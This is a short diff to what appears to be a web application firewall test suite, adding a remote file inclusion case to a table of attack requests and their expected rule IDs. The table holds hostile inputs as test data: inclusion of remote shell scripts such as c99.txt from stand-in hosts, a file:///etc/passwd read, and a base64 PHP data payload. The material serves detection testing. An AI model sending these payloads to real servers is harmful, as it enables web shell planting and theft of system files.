@@ -150,6 +150,7 @@ ATTACKS = [
     (Req.query("src", "http://66.240.183.75/crash.php"), "rfi", "query:src", "931100"),
     (Req("/plugins/BaseAdmin.class.php?_CONF[path]=https://evil.example/x.txt?"), "rfi", "uri", "931110"),
     (Req.query("page", "http://evil.example/shell.txt?"), "rfi", "query:page", "931120"),
+    (Req.query("inc", "http://evil.example/c99.txt"), "rfi", "query:inc", "931125"),
     (Req.path("/get/file:///etc/passwd"), "rfi", "path", "931130"),
     (Req.query("f", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"), "php", "query:f", "933140"),
 ]
